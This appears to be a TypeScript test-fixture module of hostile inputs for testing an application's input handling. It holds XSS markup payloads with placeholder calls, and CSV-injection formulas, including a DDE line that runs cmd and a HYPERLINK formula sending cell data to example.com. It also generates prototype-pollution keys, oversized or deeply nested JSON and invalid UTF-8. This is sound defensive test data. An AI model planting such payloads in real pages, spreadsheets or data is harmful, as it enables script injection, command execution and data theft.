import { joined, textBytes } from './hostile';

/** What would run, load or send something if a page took it for markup or for an address. */
export const MARKUP: readonly string[] = [
	'<script>smuggled(1)</script>',
	'<img src=x onerror=smuggled(2)>',
	'<svg onload=smuggled(3)>',
	'<svg><script>smuggled(4)</script></svg>',
	'<iframe src="javascript:smuggled(5)"></iframe>',
	'<a href="javascript:smuggled(6)">link</a>',
	'[link](javascript:smuggled(7))',
	'![picture](https://example.com/track.png)',
	'<math><mtext></mtext><mglyph><style><img src=x onerror=smuggled(8)></style></mglyph></math>',
	'<form action="https://example.com"><button>Send</button></form>',
	'<link rel=stylesheet href=https://example.com/a.css><style>*{display:none}</style>',
	'"><img src=x onerror=smuggled(9)>',
	"';smuggled(10);//",
	'{@html smuggled(11)}{smuggled(12)}${smuggled(13)}{{smuggled(14)}}',
	'data:text/html,<script>smuggled(15)</script>',
	'<img src="data:image/svg+xml,<svg onload=smuggled(16)>">',
	'<base href="https://example.com/">',
	'<meta http-equiv=refresh content="0;url=https://example.com">',
	'\u202e<b>txet sdrawkcab</b>'
];

/** What a spreadsheet would run (OWASP, CSV injection). */
export const FORMULAS: readonly string[] = [
	'=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://example.com?"&A1,"here")',
	'+1+1',
	'-1+1',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)'
];

/** Keys that mean more to JavaScript than to a reader of data. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

export const DEEP = 5_000;
const LONG = 40_000_000;

/** Values as JSON text that no reader may take, each with its kind. */
export function* hostileJson(): Generator<
	readonly [kind: string, what: string, json: string],
	void
> {
	yield ['nested 5,000 deep', 'arrays', `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`];
	yield ['nested 5,000 deep', 'objects', `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`];
	yield ['nested 5,000 deep', 'never closed', '['.repeat(1_000_000)];
	for (const key of PROTOTYPE_KEYS) {
		yield ['keys of a prototype', key, `{"${key}":{"polluted":true}}`];
		yield ['keys of a prototype', `${key}, deeper`, `[{"a":{"${key}":{"polluted":true}}}]`];
		const escaped = `\\u${key.charCodeAt(0).toString(16).padStart(4, '0')}${key.slice(1)}`;
		yield ['keys of a prototype', `${key}, escaped`, `{"${escaped}":{"polluted":true}}`];
	}
	yield ['a line of 40 MB', 'one text', JSON.stringify('a'.repeat(LONG))];
	yield ['a line of 40 MB', 'blanks', `${' '.repeat(LONG)}1`];
	yield ['a line of 40 MB', 'numbers', `[${'1,'.repeat(LONG / 2)}1]`];
	for (const text of [
		'',
		'NaN',
		'Infinity',
		'undefined',
		"'a'",
		'{a:1}',
		'[1,]',
		'01',
		'// no',
		'1 2',
		'{"a":1'
	])
		yield ['no JSON', text || 'nothing', text];
}

/** Text in an encoding that a reader of UTF-8 must refuse. */
export function* badEncodings(
	sound: string
): Generator<readonly [what: string, bytes: Uint8Array<ArrayBuffer>], void> {
	const bytes = textBytes(sound);
	const middle = Math.floor(bytes.length / 2);
	const put = (...more: number[]) =>
		joined(bytes.subarray(0, middle), Uint8Array.from(more), bytes.subarray(middle));
	yield ['a byte order mark', joined(Uint8Array.of(0xef, 0xbb, 0xbf), bytes)];
	yield [
		'UTF-16',
		Uint8Array.from(
			[...sound].flatMap((char) => [char.charCodeAt(0) & 255, char.charCodeAt(0) >> 8])
		)
	];
	yield ['a byte that begins nothing', put(0xff)];
	yield ['a sequence cut short', put(0xe2, 0x82)];
	yield ['an overlong slash', put(0xc0, 0xaf)];
	yield ['half a surrogate pair', put(0xed, 0xa0, 0x80)];
	yield ['beyond Unicode', put(0xf5, 0x80, 0x80, 0x80)];
	yield ['a NUL', put(0)];
}
